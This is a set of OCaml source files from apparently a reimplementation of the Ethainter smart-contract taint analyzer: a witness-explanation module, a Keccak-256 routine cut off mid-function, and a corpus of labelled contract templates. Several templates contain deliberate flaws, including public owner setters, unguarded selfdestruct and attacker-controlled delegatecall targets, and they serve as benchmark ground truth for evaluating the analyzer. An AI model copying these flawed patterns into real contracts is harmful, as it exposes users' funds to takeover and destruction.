val conservative : t
(** Fig. 8c ablation. *)
