(** Witness generation: reconstruct, for each report, a derivation
    chain showing *why* the analysis flagged it — which input the taint
    started from, which stores carried it through storage, and which
    guards were defeated (and by what). This is the evidence a human
    inspector (Fig. 6) or Ethainter-Kill needs to act on a warning.

    The explanation is reconstructed post hoc from a completed
    {!Analysis.t} fixpoint by walking definitions backwards, always
    choosing a tainted antecedent, so chains are finite (visited-set
    bounded) and every step restates a fact the fixpoint actually
    derived. *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
open Ethainter_tac
open Tac

type step =
  | SourceInput of int
      (** taint enters from transaction input at this statement *)
  | FlowThrough of int * string
      (** value flow through the operation at pc (opcode name) *)
  | IntoStorage of int * Facts.slot_class
      (** a reachable store puts tainted data into this slot class *)
  | OutOfStorage of int * Facts.slot_class
      (** a load reads the tainted slot class back *)
  | GuardDefeated of var * string
      (** a sender guard stopped sanitizing, and why *)
  | Sink of int * string
      (** the flagged statement *)

let step_to_string = function
  | SourceInput pc -> Printf.sprintf "pc %d: attacker input enters" pc
  | FlowThrough (pc, op) -> Printf.sprintf "pc %d: flows through %s" pc op
  | IntoStorage (pc, c) ->
      Printf.sprintf "pc %d: stored into %s" pc (Facts.slot_class_to_string c)
  | OutOfStorage (pc, c) ->
      Printf.sprintf "pc %d: loaded back from %s (guards cannot sanitize storage taint)"
        pc (Facts.slot_class_to_string c)
  | GuardDefeated (g, why) ->
      Printf.sprintf "guard %s defeated: %s" (var_to_string g) why
  | Sink (pc, what) -> Printf.sprintf "pc %d: %s" pc what

type explanation = {
  e_report : Vulns.report;
  e_steps : step list;
}

let pp_explanation fmt (e : explanation) =
  Format.fprintf fmt "%s@." (Vulns.report_to_string e.e_report);
  List.iter
    (fun s -> Format.fprintf fmt "    %s@." (step_to_string s))
    e.e_steps

let explanation_to_string e = Format.asprintf "%a" pp_explanation e

(* Find a statement whose store tainted this slot class. *)
let find_tainting_store (t : Analysis.t) (cls : Facts.slot_class) :
    stmt option =
  let facts = t.Analysis.facts in
  let p = facts.Facts.program in
  List.find_opt
    (fun s ->
      match (s.s_op, s.s_args) with
      | TOp Op.SSTORE, [ addr; value ] ->
          Hashtbl.mem t.Analysis.reachable s.s_pc
          && Analysis.is_tainted t value
          && Facts.may_alias
               ~conservative:t.Analysis.cfg.Config.conservative_storage
               (Facts.classify_slot facts addr)
               cls
      | _ -> false)
    (stmts p)

(* Walk back from a tainted variable to a taint source, producing the
   chain in source-to-sink order. Bounded by the visited set. *)
let rec trace_var (t : Analysis.t) (visited : VarSet.t ref) (v : var) :
    step list =
  if VarSet.mem v !visited then []
  else begin
    visited := VarSet.add v !visited;
    let facts = t.Analysis.facts in
    let p = facts.Facts.program in
    match def p v with
    | None -> []
    | Some s -> (
        match s.s_op with
        | TOp (Op.CALLDATALOAD | Op.CALLVALUE | Op.CALLDATASIZE) ->
            [ SourceInput s.s_pc ]
        | TOp Op.SLOAD -> (
            match s.s_args with
            | [ addr ] -> (
                let cls = Facts.classify_slot facts addr in
                match find_tainting_store t cls with
                | Some store -> (
                    match store.s_args with
                    | [ _addr; value ] ->
                        trace_var t visited value
                        @ [ IntoStorage (store.s_pc, cls);
                            OutOfStorage (s.s_pc, cls) ]
                    | _ -> [ OutOfStorage (s.s_pc, cls) ])
                | None ->
                    if Analysis.is_tainted t v then
                      [ OutOfStorage (s.s_pc, cls) ]
                    else [])
            | _ -> [])
        | TOp Op.MLOAD ->
            (* memory taint: find a tainted store to the same offset *)
            let src =
              match s.s_args with
              | [ off ] -> (
                  match const_of p off with
                  | Some o ->
                      List.find_opt
                        (fun s' ->
                          match (s'.s_op, s'.s_args) with
                          | TOp Op.MSTORE, [ off'; value ] ->
                              const_of p off' = Some o
                              && Analysis.is_tainted t value
                          | _ -> false)
                        (stmts p)
                  | None -> None)
              | _ -> None
            in
            (match src with
            | Some mstore -> (
                match mstore.s_args with
                | [ _; value ] ->
                    trace_var t visited value
                    @ [ FlowThrough (s.s_pc, "memory") ]
                | _ -> [])
            | None -> [])
        | TOp Op.SHA3 -> (
            match s.s_sha3_args with
            | Some hashed -> (
                match
                  List.find_opt (fun a -> Analysis.is_tainted t a) hashed
                with
                | Some a ->
                    trace_var t visited a @ [ FlowThrough (s.s_pc, "SHA3") ]
                | None -> [])
            | None -> [])
        | TOp op -> (
            match
              List.find_opt (fun a -> Analysis.is_tainted t a) s.s_args
            with
            | Some a ->
                trace_var t visited a
                @ [ FlowThrough (s.s_pc, Op.name op) ]
            | None -> [])
        | TPhi -> (
            match
              List.find_opt (fun a -> Analysis.is_tainted t a) s.s_args
            with
            | Some a -> trace_var t visited a
            | None -> [])
        | TConst _ -> [])
  end

(* Explain why each sender guard of a statement failed. *)
let explain_guards (t : Analysis.t) (s : stmt) : step list =
  let facts = t.Analysis.facts in
  Facts.guards_of_stmt facts s
  |> List.filter (fun (g : Facts.guard) ->
         Facts.scrutinizes_sender facts g.Facts.g_cond)
  |> List.filter_map (fun (g : Facts.guard) ->
         if not (Analysis.non_sanitizing t g) then None
         else
           let why =
             if Analysis.is_storage_tainted t g.Facts.g_cond then
               "its condition is tainted through storage"
             else if Analysis.is_input_tainted t g.Facts.g_cond then
               "its condition is tainted from input"
             else
               match
                 List.find_opt
                   (fun (_, cls) ->
                     Analysis.slot_writable t cls
                     || Analysis.slot_tainted t cls)
                   (Facts.guard_storage_reads facts g.Facts.g_cond)
               with
               | Some (_, cls) ->
                   Printf.sprintf "it trusts %s, which an attacker can write"
                     (Facts.slot_class_to_string cls)
               | None -> "it does not scrutinize the caller"
           in
           Some (GuardDefeated (g.Facts.g_cond, why)))

(** Produce an explanation for one report. *)
let explain (t : Analysis.t) (r : Vulns.report) : explanation =
  let facts = t.Analysis.facts in
  let p = facts.Facts.program in
  let stmt_at pc = List.find_opt (fun s -> s.s_pc = pc) (stmts p) in
  let steps =
    match stmt_at r.Vulns.r_pc with
    | None -> []
    | Some s -> (
        let guard_steps = explain_guards t s in
        let sink_name =
          match s.s_op with
          | TOp op -> Op.name op
          | _ -> "statement"
        in
        match (r.Vulns.r_kind, s.s_op, s.s_args) with
        | Vulns.TaintedSelfdestruct, TOp Op.SELFDESTRUCT, [ b ] ->
            let visited = ref VarSet.empty in
            trace_var t visited b
            @ guard_steps
            @ [ Sink (s.s_pc, "SELFDESTRUCT with attacker-influenced beneficiary") ]
        | Vulns.TaintedDelegatecall, TOp Op.DELEGATECALL, _gas :: tgt :: _
          ->
            let visited = ref VarSet.empty in
            trace_var t visited tgt
            @ guard_steps
            @ [ Sink (s.s_pc, "DELEGATECALL to attacker-influenced code") ]
        | Vulns.TaintedOwnerVariable, TOp Op.SSTORE, [ _addr; value ] ->
            let visited = ref VarSet.empty in
            trace_var t visited value
            @ guard_steps
            @ [ Sink (s.s_pc, "store into a slot trusted by a sender guard") ]
        | Vulns.UncheckedTaintedStaticcall, TOp Op.STATICCALL,
          _gas :: tgt :: _ ->
            let visited = ref VarSet.empty in
            trace_var t visited tgt
            @ [ Sink
                  ( s.s_pc,
                    "STATICCALL output overlaps input without a returndatasize check" ) ]
        | Vulns.AccessibleSelfdestruct, _, _ ->
            guard_steps
            @ [ Sink (s.s_pc, sink_name ^ " reachable by any caller") ]
        | _ -> [ Sink (s.s_pc, sink_name) ])
  in
  { e_report = r; e_steps = steps }

(** Analyze and explain in one pass. *)
let explain_runtime ?(cfg = Config.default) (runtime : string) :
    explanation list =
  let p = Ethainter_tac.Decomp.decompile runtime in
  let facts = Facts.compute p in
  let t = Analysis.run ~cfg facts in
  List.map (explain t) (Analysis.detect t)
