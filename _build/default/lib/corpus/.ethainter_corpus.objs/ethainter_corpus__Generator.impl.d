lib/corpus/generator.ml: Array Ethainter_baselines Ethainter_core Ethainter_minisol Ethainter_word Int64 List Patterns Printf String
