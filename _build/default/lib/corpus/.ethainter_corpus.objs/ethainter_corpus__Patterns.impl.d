lib/corpus/patterns.ml: Ethainter_core List
