(** Contract templates with ground truth.

    The paper evaluates on the real blockchain, estimating ground truth
    by manual inspection of verified sources (Fig. 6). Our substitute
    corpus is generated from these templates, each annotated with its
    {e true} vulnerability set, established the way Fig. 6's inspection
    does — by reasoning about what an attacker can actually achieve —
    and double-checked dynamically in the test suite by running actual
    exploit transactions on the chain simulator.

    The mix deliberately includes:
    - safe guarded contracts (owner pattern, role mappings, token
      balance checks) including the §6.2 ERC-20 pattern that fools
      Securify into "unrestricted write" / "missing input validation";
    - every primitive vulnerability of §3 in its simplest form;
    - composite (multi-transaction) escalations à la §2, which only an
      analysis with taint-through-storage and guard-tainting can see;
    - the false-positive traps of Fig. 6 (complex path conditions,
      non-owner variables, inter-function flow imprecision, imprecise
      data-structure inference) so measured precision has the same
      failure modes as the paper's 82.5%;
    - Fig. 6 true-positive flavours: ownership that can be bought,
      public-initializer races, token supply manipulation. *)

open Ethainter_core.Vulns

type truth = {
  vulnerable : kind list;   (** ground-truth vulnerabilities *)
  fp_for : kind list;
      (** kinds Ethainter is *expected* to flag spuriously on this
          template (known imprecision, per Fig. 6's ✗ rows) *)
  composite : bool;         (** exploit needs multiple transactions *)
  exploitable_selfdestruct : bool;
      (** Ethainter-Kill should manage to destroy it *)
  remark : string;          (** the Fig. 6 "Remark" column *)
}

type template = {
  t_name : string;
  t_source : string;        (** MiniSol source, [%s]-free, self-contained *)
  t_truth : truth;
  t_uses_assembly : bool;   (** vulnerable pattern lives in inline asm
                                (source-level tools cannot see it) *)
  t_solidity_version : int * int;
}

let safe_truth remark =
  { vulnerable = []; fp_for = []; composite = false;
    exploitable_selfdestruct = false; remark }

let mk ?(assembly = false) ?(version = (5, 8)) name source truth =
  { t_name = name; t_source = source; t_truth = truth;
    t_uses_assembly = assembly; t_solidity_version = version }

(* ================== safe contracts ================== *)

let safe_wallet =
  mk "safe_wallet" {|
contract SafeWallet {
  address owner;
  uint256 stash;
  constructor() { owner = msg.sender; }
  function deposit() public payable { stash = stash + msg.value; }
  function setOwner(address o) public {
    require(msg.sender == owner);
    owner = o;
  }
  function sweep(address dest) public {
    require(msg.sender == owner);
    call_value(dest, stash);
    stash = 0;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|} (safe_truth "owner-guarded everything")

(* The §6.2 example that earns Securify its false positives: underflow
   checks that are not "input validation" in Securify's sense, and
   mapping stores compiled to pointer arithmetic. *)
let token =
  mk "token" {|
contract Token {
  mapping(address => uint256) balances;
  mapping(address => mapping(address => uint256)) allowed;
  address owner;
  uint256 totalSupply;
  constructor() { owner = msg.sender; totalSupply = 1000000; }
  function transfer(address to, uint256 value) public {
    require(balances[msg.sender] >= value);
    balances[to] = balances[to] + value;
    balances[msg.sender] = balances[msg.sender] - value;
  }
  function transferFrom(address from, address to, uint256 value) public {
    require(balances[from] >= value);
    require(allowed[from][msg.sender] >= value);
    balances[to] = balances[to] + value;
    balances[from] = balances[from] - value;
    allowed[from][msg.sender] = allowed[from][msg.sender] - value;
  }
  function approve(address spender, uint256 value) public {
    allowed[msg.sender][spender] = value;
  }
  function mint(address to, uint256 value) public {
    require(msg.sender == owner);
    balances[to] = balances[to] + value;
    totalSupply = totalSupply + value;
  }
}|} (safe_truth "ERC-20 pattern; balances writes are sender-keyed")

let vault =
  mk "vault" {|
contract Vault {
  mapping(address => uint256) balances;
  address owner;
  constructor() { owner = msg.sender; }
  function deposit() public payable {
    balances[msg.sender] = balances[msg.sender] + msg.value;
  }
  function withdraw(uint256 amount) public {
    require(balances[msg.sender] >= amount);
    balances[msg.sender] = balances[msg.sender] - amount;
    call_value(msg.sender, amount);
  }
  function shutdown() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|} (safe_truth "balance-guarded withdrawals; owner-guarded kill")

let role_registry =
  mk "role_registry" {|
contract RoleRegistry {
  mapping(address => bool) admins;
  mapping(address => uint256) scores;
  address owner;
  constructor() { owner = msg.sender; admins[msg.sender] = true; }
  function addAdmin(address a) public {
    require(msg.sender == owner);
    admins[a] = true;
  }
  function setScore(address who, uint256 s) public {
    require(admins[msg.sender]);
    scores[who] = s;
  }
  function retire() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|} (safe_truth "admins only extendable by owner")

let safe_migrator =
  mk "safe_migrator" {|
contract SafeMigrator {
  address owner;
  address target;
  constructor() { owner = msg.sender; }
  function setTarget(address t) public {
    require(msg.sender == owner);
    target = t;
  }
  function migrate() public {
    require(msg.sender == owner);
    delegatecall(target);
  }
}|} (safe_truth "delegatecall target settable only by owner")

let checked_wallet_verifier =
  mk "checked_wallet_verifier" {|
contract CheckedVerifier {
  address wallet;
  address owner;
  constructor() { owner = msg.sender; }
  function setWallet(address w) public {
    require(msg.sender == owner);
    wallet = w;
  }
  function verify() public {
    staticcall_checked(wallet);
  }
}|} (safe_truth "staticcall output validated via returndatasize")

let counter =
  mk "counter" {|
contract Counter {
  uint256 count;
  mapping(address => uint256) hits;
  function bump() public {
    count = count + 1;
    hits[msg.sender] = hits[msg.sender] + 1;
  }
  function bumpBy(uint256 n) public {
    require(n < 100);
    count = count + n;
  }
}|} (safe_truth "no sensitive operations at all")

(* ================== primitive vulnerabilities (§3) ================== *)

let tainted_owner_31 =
  mk "tainted_owner" {|
contract Ownable {
  address owner;
  uint256 funds;
  function initOwner(address o) public {
    owner = o;
  }
  function deposit() public payable { funds = funds + msg.value; }
  function kill() public {
    if (msg.sender == owner) {
      selfdestruct(owner);
    }
  }
}|}
    { vulnerable =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      fp_for = []; composite = true; exploitable_selfdestruct = true;
      remark = "public owner setter (programming error)" }

let open_delegate_32 =
  mk ~assembly:true "open_delegate" {|
contract Migrator {
  function migrate(address delegate) public {
    delegatecall(delegate);
  }
}|}
    { vulnerable = [ TaintedDelegatecall ]; fp_for = []; composite = false;
      exploitable_selfdestruct = false;
      remark = "naive migrate() (inline assembly in the wild)" }

let open_kill_33 =
  mk "open_kill" {|
contract Disposable {
  address beneficiary;
  constructor() { beneficiary = msg.sender; }
  function kill() public {
    selfdestruct(beneficiary);
  }
}|}
    { vulnerable = [ AccessibleSelfdestruct ]; fp_for = []; composite = false;
      exploitable_selfdestruct = true; remark = "unguarded kill()" }

let tainted_beneficiary_34 =
  mk "tainted_beneficiary" {|
contract Administered {
  address owner;
  address administrator;
  constructor() { owner = msg.sender; }
  function initAdmin(address admin) public {
    administrator = admin;
  }
  function kill() public {
    if (msg.sender == owner) {
      selfdestruct(administrator);
    }
  }
}|}
    { vulnerable = [ TaintedSelfdestruct ]; fp_for = []; composite = true;
      exploitable_selfdestruct = false;
      remark = "anyone can taint the beneficiary; owner triggers" }

let unchecked_static_35 =
  mk "unchecked_static" {|
contract SignatureChecker {
  function isValid(address wallet) public {
    staticcall_unchecked(wallet);
  }
}|}
    { vulnerable = [ UncheckedTaintedStaticcall ]; fp_for = [];
      composite = false; exploitable_selfdestruct = false;
      remark = "0x-style missing return data size check" }

(* ================== composite vulnerabilities (§2) ================== *)

let victim_composite =
  mk "victim_composite" {|
contract Victim {
  mapping(address => bool) admins;
  mapping(address => bool) users;
  address owner;
  modifier onlyAdmins { require(admins[msg.sender]); _; }
  modifier onlyUsers { require(users[msg.sender]); _; }
  constructor() { owner = msg.sender; }
  function registerSelf() public { users[msg.sender] = true; }
  function referUser(address user) public onlyUsers { users[user] = true; }
  function referAdmin(address adm) public onlyUsers { admins[adm] = true; }
  function changeOwner(address o) public onlyAdmins { owner = o; }
  function kill() public onlyAdmins { selfdestruct(owner); }
}|}
    { vulnerable = [ AccessibleSelfdestruct; TaintedSelfdestruct ];
      fp_for = []; composite = true; exploitable_selfdestruct = true;
      remark = "the §2 four-step escalation (wrong modifier)" }

let buyable_ownership =
  mk "buyable_ownership" {|
contract Auctioned {
  address owner;
  uint256 price;
  constructor() { owner = msg.sender; price = 0; }
  function buyOwnership(address newOwner) public payable {
    require(msg.value >= price);
    owner = newOwner;
    price = msg.value + 1;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    { vulnerable =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      fp_for = []; composite = true; exploitable_selfdestruct = true;
      remark = "ownership can be bought" }

let race_initializer =
  mk "race_initializer" {|
contract Initializable {
  address owner;
  uint256 initialized;
  function initialize(address o) public {
    require(initialized == 0);
    owner = o;
    initialized = 1;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    { vulnerable =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      fp_for = []; composite = true; exploitable_selfdestruct = true;
      remark = "public initializer (race condition)" }

let supply_manip =
  mk "supply_manip" {|
contract SupplyToken {
  mapping(address => uint256) balances;
  address controller;
  uint256 totalSupply;
  function setController(address c) public {
    controller = c;
  }
  function inflate(address to, uint256 amount) public {
    require(msg.sender == controller);
    balances[to] = balances[to] + amount;
    totalSupply = totalSupply + amount;
  }
}|}
    { vulnerable = [ TaintedOwnerVariable ]; fp_for = []; composite = true;
      exploitable_selfdestruct = false;
      remark = "token supply manipulable via tainted controller" }

let chained_roles =
  mk "chained_roles" {|
contract ChainedRoles {
  mapping(address => bool) members;
  address curator;
  address treasury;
  constructor() { curator = msg.sender; treasury = msg.sender; }
  function join(address who) public { members[who] = true; }
  function electCurator(address c) public {
    require(members[msg.sender]);
    curator = c;
  }
  function setTreasury(address t) public {
    require(msg.sender == curator);
    treasury = t;
  }
  function dissolve() public {
    require(msg.sender == curator);
    selfdestruct(treasury);
  }
}|}
    { vulnerable =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      fp_for = []; composite = true; exploitable_selfdestruct = true;
      remark = "role chain: member -> curator -> treasury -> kill" }

let delegate_via_storage =
  mk ~assembly:true "delegate_via_storage" {|
contract LazyProxy {
  address impl;
  address owner;
  constructor() { owner = msg.sender; }
  function setImpl(address i) public {
    impl = i;
  }
  function forward() public {
    require(msg.sender == owner);
    delegatecall(impl);
  }
}|}
    { vulnerable = [ TaintedDelegatecall ]; fp_for = []; composite = true;
      exploitable_selfdestruct = false;
      remark = "target tainted via storage; guarded call still executes it" }

(* ================== orphan-code cases (Experiment 1) ================== *)

let private_kill_unreachable =
  mk "private_kill_unreachable" {|
contract DeadCode {
  address owner;
  uint256 version;
  constructor() { owner = msg.sender; }
  function bump() public { version = version + 1; }
  function emergencyEscape() private {
    selfdestruct(owner);
  }
}|}
    { vulnerable = [ AccessibleSelfdestruct ]; fp_for = []; composite = false;
      exploitable_selfdestruct = false;
      remark = "flagged statement has no public entry point" }

(* ================== false-positive traps (Fig. 6 ✗ rows) ============== *)

let complex_path_condition =
  mk "complex_path_condition" {|
contract Throttled {
  address owner;
  uint256 budget;
  uint256 spent;
  constructor() { owner = msg.sender; budget = 0; }
  function take(address o) public {
    require(spent < budget);
    owner = o;
    spent = spent + 1;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    { vulnerable = [];
      fp_for =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      composite = false; exploitable_selfdestruct = false;
      remark = "complex path condition: budget is permanently 0" }

let not_an_owner_var =
  mk "not_an_owner_var" {|
contract TagGame {
  address lastTagged;
  uint256 tags;
  function tag(address who) public {
    lastTagged = who;
  }
  function brag() public {
    require(msg.sender == lastTagged);
    tags = tags + 1;
  }
}|}
    { vulnerable = []; fp_for = [ TaintedOwnerVariable ]; composite = false;
      exploitable_selfdestruct = false;
      remark = "compared-to-sender variable is not an owner" }

let inter_function_flow =
  mk "inter_function_flow" {|
contract Normalizer {
  address owner;
  mapping(address => uint256) notes;
  constructor() { owner = msg.sender; }
  function mask(address a) private returns (address) {
    return a;
  }
  function note(address who, uint256 what) public {
    notes[mask(who)] = what;
  }
  function refreshOwner() public {
    owner = mask(owner);
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    { vulnerable = [];
      fp_for =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      composite = false; exploitable_selfdestruct = false;
      remark = "helper shared by tainted and untainted callers" }

let imprecise_ds =
  mk "imprecise_ds" {|
contract Committee {
  mapping(uint256 => address) delegates;
  uint256 round;
  function nominate(uint256 slot, address who) public {
    require(slot > 100);
    delegates[slot] = who;
  }
  function dissolve() public {
    require(msg.sender == delegates[round]);
    selfdestruct(msg.sender);
  }
}|}
    { vulnerable = [];
      fp_for = [ TaintedOwnerVariable; AccessibleSelfdestruct ];
      composite = false; exploitable_selfdestruct = false;
      remark =
        "round stays 0 < 100: nominated slots cannot alias the trusted one" }

let oracle =
  mk "oracle" {|
contract Oracle {
  address owner;
  uint256 price;
  uint256 updatedAt;
  constructor() { owner = msg.sender; }
  function setPrice(uint256 p) public {
    require(msg.sender == owner);
    price = p;
    updatedAt = 1;
  }
  function getPrice() public returns (uint256) {
    return price;
  }
}|} (safe_truth "owner-guarded oracle updates")

let pinger =
  mk "pinger" {|
contract Pinger {
  function ping(uint256 x) public returns (uint256) {
    require(x < 1000000);
    return x + 1;
  }
  function echo(address a) public returns (address) {
    return a;
  }
}|} (safe_truth "stateless utility; nothing to flag")

(* A safe contract using raw ("unstructured", EIP-1967-style) storage
   access the decompiler cannot resolve statically. The default
   analysis keeps unknown locations separate from known slots (precise,
   incomplete); the Fig. 8c conservative mode lets the unknown store
   alias every slot — including the trusted owner slot — and flags it. *)
let unstructured_storage =
  mk ~assembly:true "unstructured_storage" {|
contract UnstructuredProxy {
  address owner;
  uint256 ptr;
  constructor() {
    owner = msg.sender;
    ptr = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
  }
  function setValue(uint256 v) public {
    assembly_sstore(assembly_sload(1), v);
  }
  function getValue() public returns (uint256) {
    return assembly_sload(assembly_sload(1));
  }
  function retire() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    { vulnerable = [];
      fp_for = []; (* flagged only under conservative storage modeling *)
      composite = false; exploitable_selfdestruct = false;
      remark = "raw pointer slot cannot collide with slot 0 in reality" }

(* ================== second-wave templates ================== *)

let multisig =
  mk "multisig" {|
contract MultiSig {
  mapping(address => bool) signers;
  mapping(uint256 => uint256) confirmations;
  uint256 required;
  uint256 proposalCount;
  constructor() {
    signers[msg.sender] = true;
    required = 2;
  }
  function propose() public returns (uint256) {
    require(signers[msg.sender]);
    proposalCount = proposalCount + 1;
    log_event(1, proposalCount);
    return proposalCount;
  }
  function confirm(uint256 id) public {
    require(signers[msg.sender]);
    require(id <= proposalCount);
    confirmations[id] = confirmations[id] + 1;
    log_event(2, id);
  }
  function execute(uint256 id, address dest, uint256 amount) public {
    require(signers[msg.sender]);
    require(confirmations[id] >= required);
    confirmations[id] = 0;
    call_value(dest, amount);
  }
}|} (safe_truth "signers fixed at construction; threshold enforced")

let pausable_token =
  mk "pausable_token" {|
contract PausableToken {
  mapping(address => uint256) balances;
  address owner;
  uint256 paused;
  modifier whenActive { require(paused == 0); _; }
  constructor() { owner = msg.sender; }
  function pause() public {
    require(msg.sender == owner);
    paused = 1;
  }
  function unpause() public {
    require(msg.sender == owner);
    paused = 0;
  }
  function transfer(address to, uint256 v) public whenActive {
    require(balances[msg.sender] >= v);
    balances[to] = balances[to] + v;
    balances[msg.sender] = balances[msg.sender] - v;
  }
  function deposit() public payable whenActive {
    balances[msg.sender] = balances[msg.sender] + msg.value;
  }
}|} (safe_truth "pause flag writable only by owner")

let two_step_ownership =
  mk "two_step_ownership" {|
contract TwoStep {
  address owner;
  address pendingOwner;
  constructor() { owner = msg.sender; }
  function offerOwnership(address to) public {
    require(msg.sender == owner);
    pendingOwner = to;
  }
  function acceptOwnership() public {
    require(msg.sender == pendingOwner);
    owner = pendingOwner;
    pendingOwner = 0;
  }
  function retire() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|} (safe_truth "hand-over requires the outgoing owner's signature")

(* tx.origin guard: a known antipattern (phishable), but not one of the
   paper's five information-flow vulnerabilities — Ethainter treats
   origin like sender for guard purposes and stays quiet. *)
let origin_guard =
  mk "origin_guard" {|
contract OriginGuarded {
  address owner;
  uint256 v;
  constructor() { owner = msg.sender; }
  function set(uint256 x) public {
    require(tx.origin == owner);
    v = x;
  }
  function retire() public {
    require(tx.origin == owner);
    selfdestruct(owner);
  }
}|} (safe_truth "origin-guard: phishable but not taint-exploitable")

let crowdsale_vulnerable =
  mk "crowdsale_vulnerable" {|
contract Crowdsale {
  mapping(address => uint256) contributions;
  address treasurer;
  uint256 raised;
  uint256 closed;
  function setTreasurer(address t) public {
    treasurer = t;
  }
  function contribute() public payable {
    require(closed == 0);
    contributions[msg.sender] = contributions[msg.sender] + msg.value;
    raised = raised + msg.value;
    log_event(3, msg.value);
  }
  function finalize() public {
    require(msg.sender == treasurer);
    closed = 1;
    call_value(treasurer, raised);
    selfdestruct(treasurer);
  }
}|}
    { vulnerable =
        [ TaintedOwnerVariable; AccessibleSelfdestruct; TaintedSelfdestruct ];
      fp_for = []; composite = true; exploitable_selfdestruct = true;
      remark = "treasurer settable by anyone; funds and kill follow" }

let proxy_1967 =
  mk ~assembly:true "proxy_1967" {|
contract Proxy1967 {
  address admin;
  constructor() {
    admin = msg.sender;
    assembly_sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, 0);
  }
  function upgradeTo(address impl) public {
    require(msg.sender == admin);
    assembly_sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, uint256(impl));
  }
  function forward() public {
    delegatecall(address(assembly_sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)));
  }
}|} (safe_truth "EIP-1967 slot writable only by admin")

let broken_proxy =
  mk ~assembly:true "broken_proxy" {|
contract BrokenProxy {
  address admin;
  constructor() { admin = msg.sender; }
  function upgradeTo(address impl) public {
    assembly_sstore(7777, uint256(impl));
  }
  function forward() public {
    delegatecall(address(assembly_sload(7777)));
  }
}|}
    { vulnerable = [ TaintedDelegatecall ]; fp_for = []; composite = true;
      exploitable_selfdestruct = false;
      remark = "unguarded upgrade slot feeds the delegatecall target" }

(* ================== catalogue ================== *)

let safe_templates =
  [ safe_wallet; token; vault; role_registry; safe_migrator;
    checked_wallet_verifier; counter; unstructured_storage; oracle; pinger;
    multisig; pausable_token; two_step_ownership; origin_guard; proxy_1967 ]

let vulnerable_templates =
  [ tainted_owner_31; open_delegate_32; open_kill_33; tainted_beneficiary_34;
    unchecked_static_35; victim_composite; buyable_ownership;
    race_initializer; supply_manip; chained_roles; delegate_via_storage;
    private_kill_unreachable; crowdsale_vulnerable; broken_proxy ]

let fp_trap_templates =
  [ complex_path_condition; not_an_owner_var; inter_function_flow;
    imprecise_ds ]

let all_templates = safe_templates @ vulnerable_templates @ fp_trap_templates

let find name = List.find_opt (fun t -> t.t_name = name) all_templates
