lib/crypto/keccak.ml: Array Bytes Char Ethainter_word Int64 String
