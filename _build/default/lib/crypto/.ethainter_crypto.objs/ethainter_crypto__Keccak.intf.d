lib/crypto/keccak.mli: Ethainter_word
