(** Keccak-256 as used by Ethereum (the original Keccak padding, 0x01,
    not the NIST SHA-3 padding 0x06).

    This is the hash behind the EVM [SHA3] opcode, Solidity function
    selectors, and the storage-slot derivation for mappings and dynamic
    arrays — the very mechanism the paper's DS/DSA rules (Fig. 4) model.

    Implementation: Keccak-f[1600] permutation over a 5x5 state of
    64-bit lanes; rate 1088 bits (136 bytes), capacity 512, output 256
    bits. *)

(* Round constants for the iota step (standard Keccak constants). *)
let round_constants =
  [| 0x0000000000000001L; 0x0000000000008082L; 0x800000000000808aL;
     0x8000000080008000L; 0x000000000000808bL; 0x0000000080000001L;
     0x8000000080008081L; 0x8000000000008009L; 0x000000000000008aL;
     0x0000000000000088L; 0x0000000080008009L; 0x000000008000000aL;
     0x000000008000808bL; 0x800000000000008bL; 0x8000000000008089L;
     0x8000000000008003L; 0x8000000000008002L; 0x8000000000000080L;
     0x000000000000800aL; 0x800000008000000aL; 0x8000000080008081L;
     0x8000000000008080L; 0x0000000080000001L; 0x8000000080008008L |]

(* Rotation offsets for the rho step, indexed [x + 5*y]. *)
let rotation_offsets =
  [| 0; 1; 62; 28; 27;
     36; 44; 6; 55; 20;
     3; 10; 43; 25; 39;
     41; 45; 15; 21; 8;
     18; 2; 61; 56; 14 |]

let rotl64 (x : int64) (n : int) =
  if n = 0 then x
  else Int64.logor (Int64.shift_left x n) (Int64.shift_right_logical x (64 - n))

let keccak_f (state : int64 array) =
  let b = Array.make 25 0L in
  let c = Array.make 5 0L in
  let d = Array.make 5 0L in
  for round = 0 to 23 do
    (* theta *)
    for x = 0 to 4 do
      c.(x) <-
        Int64.logxor state.(x)
          (Int64.logxor state.(x + 5)
             (Int64.logxor state.(x + 10)
                (Int64.logxor state.(x + 15) state.(x + 20))))
    done;
    for x = 0 to 4 do
      d.(x) <- Int64.logxor c.((x + 4) mod 5) (rotl64 c.((x + 1) mod 5) 1)
    done;
    for x = 0 to 4 do
      for y = 0 to 4 do
        state.(x + (5 * y)) <- Int64.logxor state.(x + (5 * y)) d.(x)
      done
    done;
    (* rho + pi *)
    for x = 0 to 4 do
      for y = 0 to 4 do
        let nx = y and ny = ((2 * x) + (3 * y)) mod 5 in
        b.(nx + (5 * ny)) <- rotl64 state.(x + (5 * y)) rotation_offsets.(x + (5 * y))
      done
    done;
    (* chi *)
    for x = 0 to 4 do
      for y = 0 to 4 do
        state.(x + (5 * y)) <-
          Int64.logxor
            b.(x + (5 * y))
            (Int64.logand
               (Int64.lognot b.(((x + 1) mod 5) + (5 * y)))
